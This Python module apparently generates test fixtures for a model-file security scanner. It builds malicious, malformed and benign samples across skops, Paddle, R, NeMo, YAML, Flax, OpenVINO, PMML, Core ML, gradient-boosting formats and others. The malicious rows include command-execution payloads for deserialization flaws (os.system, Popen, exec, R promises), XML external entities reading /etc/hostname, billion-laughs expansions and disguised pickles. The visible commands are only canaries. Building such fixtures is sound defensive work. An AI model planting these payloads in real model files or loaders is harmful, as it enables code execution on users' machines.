"""Formats with fewer readers: skops, Paddle, R, Torch7, NeMo, Flax, OpenVINO, PMML, Core ML, boosters, engines, polyglots."""

import bz2
import json
import struct

from ..assemble.archives import folder, tarred
from ..assemble.compress import gzip_stream
from ..assemble.payload import COMMAND, NOWHERE, PYTHON
from ..assemble.pickles import EVIL_STREAM
from ..assemble.protobuf import message
from ..assemble.torch_files import torch_zip
from ..case import Row, benign_table, malformed_table, malicious_table
from .zips import HOSTILE


def schema(node, **files):
    return folder({"schema.json": json.dumps({"protocol": 2, "_skops_version": "0.11.0", **node}).encode(), **files})


def object_node(module, name, loader, content=None, **more):
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, "content": content, **more}


def paddle_filled(*sizes):
    """A program that fills a value of these sizes."""
    shape = message((1, "shape"), (2, 11), *[(15, size) for size in sizes])
    block = message((1, 0), (2, -1), (4, message((3, "fill_constant"), (4, shape))))
    return message((1, block), (4, message((1, 0))))


CHUNKED = (
    b"\x81\xa6params\x81\xa1k\x83\xb9__msgpack_chunked_array__\xc3\xa5shape\x82\xa10\xce\x00\x10\x00\x00\xa11\xce\x00\x10\x00\x00"
    b"\xa6chunks\x81\xa10\xc7\x11\x01\x93\x91\x01\xa7float32\xc4\x04" + bytes(4)
)


def packed(held):
    return b"\x81\xa5state\xc5" + struct.pack(">H", len(held)) + held


def array(held):
    return b"\x93\x91\xcd" + struct.pack(">H", len(held)) + b"\xa5uint8\xc5" + struct.pack(">H", len(held)) + held


def constant(sizes, length, kind="f32"):
    layer = f'<layer id="0" name="c" type="Const" version="opset1"><data element_type="{kind}" shape="{sizes}" offset="0" size="{length}"/></layer>'
    return {"model.xml": XML.format(head="", layers=layer), "model.bin": bytes(64)}


@malicious_table(".skops")
def skops():
    text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(COMMAND), "is_json": True, "__id__": 2}
    arguments = object_node("builtins", "tuple", "TupleNode", [text])
    rows = {
        "function": ("FunctionNode of os.system", "CVE-2024-37065", schema(object_node("os", "system", "FunctionNode", {"module_path": "os", "function": "system"}))),
        "operator": ("OperatorFuncNode of methodcaller", "CVE-2025-54412", schema(object_node("operator", "methodcaller", "OperatorFuncNode", attrs=arguments))),
        "operator-lying": ("OperatorFuncNode whose class is another than it says", "CVE-2025-54412", schema(object_node("os", "system", "OperatorFuncNode", attrs=arguments))),
        "method": ("MethodNode of an object of the caller's choice", "CVE-2025-54413", schema(object_node("builtins", "function", "MethodNode", {"func": "system", "obj": object_node("os", "os", "TypeNode")}))),
        "object": ("ObjectNode of subprocess.Popen", "CVE-2025-54412", schema(object_node("subprocess", "Popen", "ObjectNode", arguments))),
        "type": ("TypeNode of subprocess.Popen", "own", schema(object_node("subprocess", "Popen", "TypeNode"))),
        "partial": ("PartialNode of os.system", "own", schema(object_node("functools", "partial", "PartialNode", {"func": object_node("os", "system", "FunctionNode"), "args": arguments}))),
        "card": ("a model card's loader falls back on joblib", "CVE-2025-54886", EVIL_STREAM),
        "loader-unknown": ("a loader that skops does not have", "own", schema(object_node("builtins", "exec", "HelperNode"))),
        "member-pickle": ("a pickle among the members", "own", schema(object_node("builtins", "dict", "DictNode", []), **{"1.npy": EVIL_STREAM})),
    }
    for name, (mechanism, source, content) in rows.items():
        yield Row(f"skops-{name}", mechanism, source, content)


def paddle(*operations):
    def operation(kind, **attributes):
        held = [(4, message((1, name), (2, 2), (5, text))) for name, text in attributes.items()]
        return message((3, kind), *held)

    block = message((1, 0), (2, -1), *[(4, operation(kind, **attributes)) for kind, attributes in operations])
    return message((1, block), (4, message((1, 0))))


def r_data(body):
    return b"RDX3\nX\n" + struct.pack(">III", 3, 0x040301, 0x030500) + struct.pack(">I", 5) + b"UTF-8" + body


def r_value(body):
    return b"X\n" + struct.pack(">III", 3, 0x040301, 0x030500) + struct.pack(">I", 5) + b"UTF-8" + body


def r_symbol(name):
    return struct.pack(">III", 1, 0x00040009, len(name)) + name.encode()


def r_call(name, text):
    argument = struct.pack(">III", 16, 1, 0x00040009) + struct.pack(">I", len(text)) + text.encode()
    return struct.pack(">I", 6) + r_symbol(name) + struct.pack(">I", 2) + argument + struct.pack(">I", 254)


def r_promise(name, text):
    """A promise without a value: looking at it evaluates the call. [CVE-2024-27322]"""
    return struct.pack(">I", 5) + struct.pack(">I", 253) + struct.pack(">I", 251) + r_call(name, text)



NEMO = "target: {target}\nparams:\n  command: {command}\n"
XML = '<?xml version="1.0"?>\n{head}<net name="net" version="11"><layers>{layers}</layers></net>\n'
PMML = '<?xml version="1.0"?>\n{head}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>{body}</PMML>\n'
ENTITY = '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
LAUGHS = '<!DOCTYPE net [<!ENTITY a "xxxxxxxxxx">' + "".join(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi")) + "]>\n"


@malicious_table()
def formats():
    rows = {
        "paddle-py-func.pdmodel": ("Paddle's py_func", "model-files note, section 4", paddle(("py_func", {"forward_callable_id": "0"}))),
        "paddle-load.pdmodel": ("Paddle's load of another file", "own", paddle(("load", {"file_path": "/etc/hostname"}))),
        "paddle-save.pdmodel": ("Paddle's save to a file", "own", paddle(("save", {"file_path": "coseal-canary"}))),
        "paddle-custom.pdmodel": ("an operator of Paddle that nobody knows", "own", paddle(("helper_engine", {"library": "libhelper.so"}))),
        "paddle-parameters.pdparams": ("Paddle's parameters as a pickle", "own", EVIL_STREAM),
        "paddle-optimizer.pdopt": ("Paddle's optimizer as a pickle", "own", EVIL_STREAM),
        "r-promise.rds": ("a promise in R data", "CVE-2024-27322", gzip_stream(r_value(r_promise("system", COMMAND)))),
        "r-promise-plain.rds": ("a promise in R data, not compressed", "CVE-2024-27322", r_value(r_promise("system", COMMAND))),
        "r-promise-bzip2.rds": ("a promise in R data, in bzip2", "CVE-2024-27322", bz2.compress(r_value(r_promise("eval", "q")))),
        "r-promise-image.rdata": ("a promise in an R image", "CVE-2024-27322", gzip_stream(r_data(struct.pack(">I", 1026) + r_symbol("model") + r_promise("system", COMMAND) + struct.pack(">I", 254)))),
        "r-closure.rds": ("a function in R data", "own", gzip_stream(r_value(struct.pack(">I", 3) + struct.pack(">I", 253) + struct.pack(">I", 254) + r_call("system", COMMAND)))),
        "r-library.rdx": ("a lazy-load index with a promise", "CVE-2024-27322", gzip_stream(r_value(r_promise("system", COMMAND)))),
        "torch7-function.t7": ("a function in a Torch7 file", "own", struct.pack("<iii", 8, 1, 4) + b"\x1bLua" + struct.pack("<i", 1)),
        "torch7-old-function.t7": ("an older kind of function in a Torch7 file", "own", struct.pack("<iii", 7, 1, 8) + b"\x1bLuaQ\0\1\4" + struct.pack("<i", 0)),
        "torch7-text.t7": ("a function in a Torch7 file as text", "own", b"8\n1\n28\nos.execute('touch coseal-canary')\n"),
        "nemo-target.nemo": ("a NeMo configuration whose target is os.system", "CVE-2025-23304", tarred([("./model_config.yaml", NEMO.format(target="os.system", command=COMMAND).encode()), ("./model_weights.ckpt", torch_zip())])),
        "nemo-hydra.nemo": ("a NeMo configuration with Hydra's _target_", "CVE-2025-23304", tarred([("model_config.yaml", f"encoder:\n  _target_: subprocess.Popen\n  args: [{COMMAND}]\n".encode()), ("model_weights.ckpt", torch_zip())])),
        "nemo-yaml.nemo": ("a NeMo configuration with a Python tag", "own", tarred([("model_config.yaml", f"name: !!python/object/apply:os.system ['{COMMAND}']\n".encode()), ("model_weights.ckpt", torch_zip())])),
        "nemo-weights.nemo": ("NeMo with hostile weights", "own", tarred([("model_config.yaml", b"name: net\n"), ("model_weights.ckpt", torch_zip(HOSTILE))])),
        "nemo-gzip.nemo": ("the same in gzip", "own", gzip_stream(tarred([("model_config.yaml", NEMO.format(target="os.system", command=COMMAND).encode()), ("model_weights.ckpt", torch_zip())]))),
        "nemo-climbs.nemo": ("NeMo with a member that climbs out", "own", tarred([("model_config.yaml", b"name: net\n"), ("../../notes.pth", b"import this\n")])),
        "yaml-tag.yaml": ("YAML with a Python tag", "own", f"model: !!python/object/apply:subprocess.check_output [['sh', '-c', '{COMMAND}']]\n"),
        "yaml-new.yaml": ("YAML with a tag that makes objects", "own", f"!!python/object/new:type\nargs: [z, [], {{extend: !!python/name:exec }}]\nlistitems: \"{PYTHON}\"\n"),
        "hydra.yaml": ("a Hydra configuration whose _target_ is builtins.exec", "own", f"model:\n  _target_: builtins.exec\n  _args_: [\"{PYTHON}\"]\n"),
        "flax-pickle.msgpack": ("a pickle named as Flax's weights", "own", EVIL_STREAM),
        "flax-extension.msgpack": ("an extension of msgpack that holds a pickle", "own", b"\x81\xa6params\xc7" + bytes([len(EVIL_STREAM), 99]) + EVIL_STREAM),
        "flax-value.msgpack": ("bytes in Flax's weights that are a pickle", "own", packed(EVIL_STREAM)),
        "flax-value-within.msgpack": ("bytes in Flax's weights that hold a pickle", "own", packed(b"state:" + EVIL_STREAM)),
        "flax-array.msgpack": ("an array of Flax's whose numbers are a pickle", "own", b"\x81\xa1w\xc8" + struct.pack(">Hb", len(array(EVIL_STREAM)), 1) + array(EVIL_STREAM)),
        "openvino-extension.xml": ("an OpenVINO operation of a library's", "model-files note, section 4", XML.format(head="", layers='<layer id="0" name="x" type="Helper" version="extension"><data library="libhelper.so"/></layer>')),
        "openvino-entity.xml": ("an OpenVINO model with an external entity", "model-files note, section 4", XML.format(head=ENTITY, layers='<layer id="0" name="&x;" type="Parameter" version="opset1"/>')),
        "openvino-entity-address.xml": ("an OpenVINO model with an entity from an address", "own", XML.format(head=ENTITY.replace("file:///etc/hostname", NOWHERE), layers="")),
        "openvino-preprocess.xml": ("an OpenVINO model with a custom kernel", "own", XML.format(head="", layers='<layer id="0" name="x" type="CustomLayer" version="extension"/>') + '<CustomLayer name="Helper" type="SimpleGPU"><Kernel entry="f"><Source filename="../../helper.cl"/></Kernel></CustomLayer>'),
        "pmml-entity.pmml": ("PMML with an external entity", "own", PMML.format(head=ENTITY.replace("DOCTYPE net", "DOCTYPE PMML"), body="<Extension>&x;</Extension>")),
        "pmml-function.pmml": ("PMML with a Java function", "own", PMML.format(head="", body='<TransformationDictionary><DerivedField name="y" optype="continuous" dataType="double"><Apply function="java.lang.Runtime.exec"><Constant>touch coseal-canary</Constant></Apply></DerivedField></TransformationDictionary>')),
        "pmml-script.pmml": ("PMML with a script as an extension", "own", PMML.format(head="", body='<Extension extender="helper" name="script" value="os.system(1)"/>')),
        "coreml-custom-layer.mlmodel": ("Core ML with a custom layer", "own", message((1, 8), (500, message((1, message((1, "x"), (500, message((10, "HelperLayer")))))))) ),
        "coreml-custom-model.mlmodel": ("Core ML that is a custom model", "own", message((1, 8), (555, message((10, "HelperModel"), (40, "x"))))),
        "coreml-linked.mlmodel": ("Core ML that links another model", "own", message((1, 8), (556, message((1, message((1, message((1, "../../other.mlmodel"))))))))),
        "coreml-package": ("a Core ML package whose manifest climbs out", "own", {"Manifest.json": json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"1": {"path": "../../other.mlmodel", "author": "com.apple.CoreML"}}, "rootModelIdentifier": "1"})}),
        "xgboost-pickle.ubj": ("a pickle named as an XGBoost model", "own", EVIL_STREAM),
        "xgboost-objective.json": ("an XGBoost model whose attributes hold a pickle", "own", json.dumps({"version": [2, 1, 0], "learner": {"attributes": {"scikit_learn": "{}", "python_state": EVIL_STREAM.hex()}, "gradient_booster": {"name": "gbtree", "model": {"trees": []}}}})),
        "lightgbm-pickle.txt": ("a pickle behind a LightGBM model", "own", b"tree\nversion=v4\nnum_class=1\nend of trees\n" + EVIL_STREAM),
        "catboost-pickle.cbm": ("a pickle behind a CatBoost model", "own", b"CBM1" + struct.pack("<I", 16) + bytes(16) + EVIL_STREAM),
        "catboost-named.cbm": ("a pickle named as a CatBoost model", "own", EVIL_STREAM),
        "tensorrt-plugin.engine": ("an engine of TensorRT that carries a plug-in library", "own", b"ftrt" + bytes(20) + b"\x7fELF\2\1\1" + bytes(200)),
        "tensorrt-opaque.plan": ("an engine of TensorRT, which is native code", "own", b"ptrt" + bytes(range(256)) * 8),
        "rknn-opaque.rknn": ("a model for a neural processor, which is native code", "own", b"RKNN" + bytes(range(256)) * 8),
        "executorch-native.pte": ("an ExecuTorch program with a delegate that is a library", "own", struct.pack("<I", 32) + b"ET12" + b"eh00" + bytes(20) + b"\x7fELF\2\1\1" + bytes(200)),
        "llamafile.gguf": ("an executable with a model in it, named as a model", "own", b"MZqFpD='\n" + b"#" * 64 + b"'\ntouch coseal-canary\nexit 0\n" + folder({"model.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, 0)})),
        "shell-script.bin": ("a shell script named as weights", "own", f"#!/bin/sh\n{COMMAND}\n"),
        "elf.bin": ("an ELF program named as weights", "own", b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)),
        "windows-program.safetensors": ("a Windows program named as weights", "own", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)),
        "macho.model": ("a Mach-O library named as weights", "own", b"\xcf\xfa\xed\xfe" + bytes(200)),
        "pdf-pickle.pdf": ("a document with a pickle behind it", "own", b"%PDF-1.4\n%%EOF\n" + EVIL_STREAM),
        "image-zip.png": ("a picture with a hostile PyTorch file behind it", "own", b"\x89PNG\r\n\x1a\n" + bytes(64) + torch_zip(HOSTILE)),
        "notebook.ipynb": ("a notebook beside the model that runs a command", "own", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "id": "a", "metadata": {}, "outputs": [], "execution_count": None, "source": f"!{COMMAND}"}]})),
        "mxnet-custom.json": ("an MXNet graph with a Custom operator", "own", json.dumps({"nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "helper"}, "inputs": []}], "arg_nodes": [], "heads": [[0, 0, 0]]})),
        "cntk-native.model": ("a CNTK model with a native function", "own", b"\x42\x00\x43\x00\x4e\x00" + message((1, "NativeUserFunctionOp"), (2, "libhelper.so"))),
        "gguf-adapter.ggml": ("a pickle named as a GGML model", "own", EVIL_STREAM),
        "surya-dill.dill": ("a dill file", "own", EVIL_STREAM),
        "word-vectors.kv": ("word vectors as a pickle", "own", EVIL_STREAM),
        "prophet.json": ("a Prophet model whose history is a jsonpickle object", "own", json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]})),
        "jsonpickle.json": ("jsonpickle that makes subprocess.Popen", "own", json.dumps({"py/object": "subprocess.Popen", "py/newargs": [["sh", "-c", COMMAND]]})),
    }
    for name, (mechanism, source, content) in rows.items():
        yield Row(name, mechanism, source, content)


@malformed_table()
def broken():
    rows = {
        "openvino-laughs.xml": ("an OpenVINO model with entities of entities", "own", XML.format(head=LAUGHS, layers="&i;")),
        "pmml-laughs.pmml": ("PMML with entities of entities", "own", PMML.format(head=LAUGHS.replace("DOCTYPE net", "DOCTYPE PMML"), body="&i;")),
        "executorch-size.pte": ("an ExecuTorch program whose sizes overflow", "CVE-2025-30402", struct.pack("<I", 0xFFFFFFF0) + b"ET12" + b"eh00" + struct.pack("<IQQ", 24, 1 << 63, 1 << 63)),
        "executorch-offset.pte": ("an ExecuTorch program whose segment lies beyond", "CVE-2025-30404", struct.pack("<I", 64) + b"ET12" + b"eh00" + struct.pack("<IQQ", 24, 128, 1 << 62) + bytes(32)),
        "lightgbm-sizes.txt": ("a LightGBM model whose tree sizes lie", "CVE-2024-43598", "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nmax_feature_idx=0\ntree_sizes=99999999999\n\nTree=0\nnum_leaves=2147483647\n"),
        "xgboost-sizes.json": ("an XGBoost model whose arrays are of different lengths", "own", json.dumps({"version": [2, 1, 0], "learner": {"gradient_booster": {"name": "gbtree", "model": {"gbtree_model_param": {"num_trees": "1"}, "trees": [{"tree_param": {"num_nodes": "2147483647"}, "left_children": [7], "right_children": [], "split_indices": []}]}}}})),
        "xgboost-cut.ubj": ("an XGBoost model in UBJSON, cut", "own", b"{L" + struct.pack(">q", 7) + b"learner{L" + struct.pack(">q", 1 << 60)),
        "catboost-length.cbm": ("a CatBoost model longer than its file", "own", b"CBM1" + struct.pack("<I", 1 << 31) + bytes(16)),
        "openvino-constant-short": ("an OpenVINO constant of fewer bytes than its shape says", "own", constant("4,4", 32)),
        "openvino-constant-overflow": ("an OpenVINO constant whose shape overflows", "own", constant("4294967296,4294967296", 64)),
        "flax-chunks.msgpack": ("a chunked array of 2^40 numbers with one chunk of one", "own", CHUNKED),
        "flax-length.msgpack": ("msgpack whose text is longer than the file", "own", b"\x81\xdb\xff\xff\xff\xffparams"),
        "flax-deep.msgpack": ("msgpack of 50,000 lists in each other", "own", b"\x91" * 50_000 + b"\xc0"),
        "r-length.rds": ("R data with a vector of negative length", "own", r_value(struct.pack(">Ii", 14, -9))),
        "torch7-loop.t7": ("a Torch7 table longer than the file", "own", struct.pack("<iii", 3, 1, 1 << 30)),
        "coreml-cut.mlmodel": ("a Core ML model, cut", "own", message((1, 8), (500, bytes(100)))[:40]),
        "paddle-fill.pdmodel": ("a Paddle program that fills 2^40 elements", "own", paddle_filled(1 << 20, 1 << 20)),
        "paddle-length.pdmodel": ("a Paddle model with a block beyond the file", "own", b"\x0a\xff\xff\xff\x7f\x08\0"),
        "skops-no-schema.skops": ("a skops file without its schema", "own", folder({"1.npy": b"x"})),
    }
    for name, (mechanism, source, content) in rows.items():
        yield Row(name, mechanism, source, content)


@benign_table()
def honest():
    tree = {"tree_param": {"num_nodes": "1", "num_feature": "1"}, "left_children": [-1], "right_children": [-1], "parents": [2147483647], "split_indices": [0], "split_conditions": [0.5], "base_weights": [0.5]}
    rows = {
        "honest.xml": ("an OpenVINO model of one input", XML.format(head="", layers='<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer>')),
        "honest-fill.pdmodel": ("a Paddle program that fills 16 elements", paddle_filled(4, 4)),
        "honest.pmml": ("a PMML regression", PMML.format(head="", body='<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="1.5"><NumericPredictor name="x" coefficient="0.25"/></RegressionTable></RegressionModel>')),
        "honest.nemo": ("a NeMo model", tarred([("./model_config.yaml", b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n"), ("./model_weights.ckpt", torch_zip())])),
        "honest-numbers.rds": ("R numbers", gzip_stream(r_value(struct.pack(">II", 14, 2) + struct.pack(">2d", 0.5, 1.5)))),
        "honest.skops": ("a skops dictionary", schema(object_node("builtins", "dict", "DictNode", {}, key_types={**object_node("builtins", "list", "ListNode", []), "__id__": 2}))),
        "honest.msgpack": ("Flax's weights", b"\x81\xa6params\x81\xa4bias\xc4\x04" + bytes(4)),
        "honest-booster.json": ("an XGBoost model of one leaf", json.dumps({"version": [2, 1, 0], "learner": {"attributes": {}, "feature_names": [], "gradient_booster": {"name": "gbtree", "model": {"gbtree_model_param": {"num_trees": "1"}, "trees": [tree], "tree_info": [0]}}, "objective": {"name": "reg:squarederror"}}})),
        "honest.yaml": ("settings as YAML", "model:\n  layers: 3\n  learning_rate: 0.001\n"),
    }
    for name, (mechanism, content) in rows.items():
        yield Row(name, mechanism, "own", content)
